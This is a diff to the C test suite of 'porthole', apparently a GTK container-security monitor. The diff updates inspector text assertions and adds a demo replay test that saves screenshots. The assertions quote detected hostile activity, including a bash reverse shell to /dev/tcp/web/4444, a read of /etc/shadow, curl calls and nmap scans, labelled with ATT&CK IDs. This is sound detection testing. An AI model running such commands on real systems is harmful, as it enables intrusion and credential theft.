@@ -323,7 +323,7 @@ test_container (Fixture *f, gconstpointer data)
   fill (f);
   porthole_selection_set_node (f->selection, WEB);
 
-  assert_reads (f, "\nweb\nexample/app:1 · running · under a minute\n");
+  assert_reads (f, "\nweb\nexample/app:1\nrunning · under a minute\n");
   assert_reads (f, "\nWhy\n2\nPassword hashes read\n");
   assert_reads (f, "\ncat read /etc/shadow\nPassword hashes read\n");
   assert_reads (f, "\n/usr/bin/curl -s http://db\n");
@@ -345,7 +345,7 @@ test_claimed (Fixture *f, gconstpointer data)
   fake->name = g_strdup ("web");
   porthole_session_take_container (f->session, fake);
   porthole_selection_set_node (f->selection, "claimed");
-  assert_reads (f, "\nimage unknown · state unknown · age unknown · name only claimed\n");
+  assert_reads (f, "\nimage unknown\nstate unknown · age unknown · name only claimed\n");
   assert_reads (f, "only what user 1000 claims");
   assert_reads (f, "\nNothing was found.\n");
 }
@@ -356,7 +356,7 @@ test_peer (Fixture *f, gconstpointer data)
   fill (f);
   porthole_selection_set_node (f->selection, "peer:203.0.113.7");
   assert_reads (f, "\n203.0.113.7\n");
-  assert_reads (f, "\nWho talks to it\nweb\ncalls in · tcp 23 · 1 refused\n");
+  assert_reads (f, "\nWho talks to it\nweb\ntcp 23 · 1 refused\n");
   assert_reads (f, "\nName\nunknown\n");
   assert_reads (f, "\nBlocked\nno\n");
   assert_reads (f, "T1021");
@@ -371,7 +371,7 @@ test_edge (Fixture *f, gconstpointer data)
   porthole_selection_set_edge (f->selection, WEB, "peer:203.0.113.7");
   assert_reads (f, "→");
   assert_reads (f, "\ntcp 23 · 1 connection\n");
-  assert_reads (f, "\ncurl → tcp 23\n1 refused\n");
+  assert_reads (f, "\ncurl → tcp 23\n1 refused · 203.0.113.7\n");
   assert_reads (f, "\nBytes\nunknown\n");
 
   /* both ends lead on, and their rows to the edge again */
@@ -690,6 +690,86 @@ test_widths (Fixture *f, gconstpointer data)
   assert_reads (f, "\nweb\n");
 }
 
+/* what is seen, as NAME.png where the environment has a folder for such pictures */
+static void
+take_picture (Fixture *f, const char *name)
+{
+  const char *folder = g_getenv ("PORTHOLE_SCREENSHOTS");
+  gboolean dark = adw_style_manager_get_dark (adw_style_manager_get_default ());
+  g_autoptr (GdkPaintable) paintable = NULL;
+  g_autoptr (GtkSnapshot) snapshot = NULL;
+  g_autoptr (GskRenderNode) node = NULL;
+  g_autoptr (GdkTexture) texture = NULL;
+  g_autofree char *file = NULL;
+  g_autofree char *path = NULL;
+
+  settle ();
+  if (folder == NULL)
+    return;
+  paintable = gtk_widget_paintable_new (f->window);
+  snapshot = gtk_snapshot_new ();
+  gdk_paintable_snapshot (paintable, snapshot, gdk_paintable_get_intrinsic_width (paintable),
+                          gdk_paintable_get_intrinsic_height (paintable));
+  node = gtk_snapshot_to_node (snapshot);
+  texture
+      = gsk_renderer_render_texture (gtk_native_get_renderer (GTK_NATIVE (f->window)), node, NULL);
+  file = g_strdup_printf ("inspector-%s-%s.png", name, dark ? "dark" : "light");
+  path = g_build_filename (folder, file, NULL);
+  g_assert_true (gdk_texture_save_to_png (texture, path));
+}
+
+static const char *
+find_container (Fixture *f, const char *name)
+{
+  g_autoptr (GPtrArray) containers
+      = porthole_session_get_containers (porthole_watch_get_session (f->watch));
+
+  for (guint i = 0; i < containers->len; i++)
+    {
+      const PortholeContainer *container = containers->pdata[i];
+
+      if (g_strcmp0 (container->name, name) == 0)
+        return container->id;
+    }
+  g_assert_not_reached ();
+}
+
+/* each kind of selection, of the recording that is shipped */
+static void
+test_demo (Fixture *f, gconstpointer data)
+{
+  g_autoptr (GFile) file = g_file_new_for_path (CHECK_DEMO);
+  GPtrArray *findings;
+  const char *attacker, *web;
+
+  porthole_watch_replay (f->watch, file, PORTHOLE_REPLAY_FAST);
+  while (porthole_watch_get_state (f->watch) != PORTHOLE_WATCH_REPLAYED)
+    g_main_context_iteration (NULL, TRUE);
+  attacker = find_container (f, "porthole-demo-attacker");
+  web = find_container (f, "porthole-demo-web");
+  take_picture (f, "empty");
+
+  porthole_selection_set_node (f->selection, attacker);
+  assert_reads (f, "\nShell with its input on a network socket\nT1059.004 · ");
+  take_picture (f, "attacker");
+  porthole_inspector_row_activate (find_row (f, "Shell with its input on a network socket"));
+  assert_reads (f, "bash -c bash -i >& /dev/tcp/web/4444 0>&1 (pid ");
+  take_picture (f, "why");
+  porthole_selection_set_node (f->selection, web);
+  assert_reads (f, "\nNetwork tool started\nT1095 · ");
+  take_picture (f, "web");
+  porthole_selection_set_node (f->selection, "peer:198.51.100.1");
+  assert_reads (f, "\nporthole-demo-attacker\ntcp ");
+  take_picture (f, "peer");
+  porthole_selection_set_edge (f->selection, attacker, web);
+  assert_reads (f, "\nnmap → tcp 22\n");
+  take_picture (f, "edge");
+  findings = porthole_session_get_findings (porthole_watch_get_session (f->watch));
+  porthole_selection_set_finding (f->selection, findings->pdata[0]);
+  assert_reads (f, "\nScan or attack tool started\nFinding · ");
+  take_picture (f, "finding");
+}
+
 /* a session that ends gives way to the next, of which nothing of the old one is told */
 static void
 test_new_session (Fixture *f, gconstpointer data)
@@ -711,6 +791,9 @@ main (int argc, char *argv[])
   g_test_init (&argc, &argv, NULL);
   adw_init ();
   porthole_ui_init ();
+  if (g_getenv ("PORTHOLE_TEST_DARK") != NULL)
+    adw_style_manager_set_color_scheme (adw_style_manager_get_default (),
+                                        ADW_COLOR_SCHEME_FORCE_DARK);
 
   ADD ("empty", test_empty);
   ADD ("container", test_container);
@@ -727,6 +810,7 @@ main (int argc, char *argv[])
   ADD ("hostile", test_hostile);
   ADD ("hostile-text", test_hostile_text);
   ADD ("widths", test_widths);
+  ADD ("demo", test_demo);
   ADD ("new-session", test_new_session);
 
   return g_test_run ();
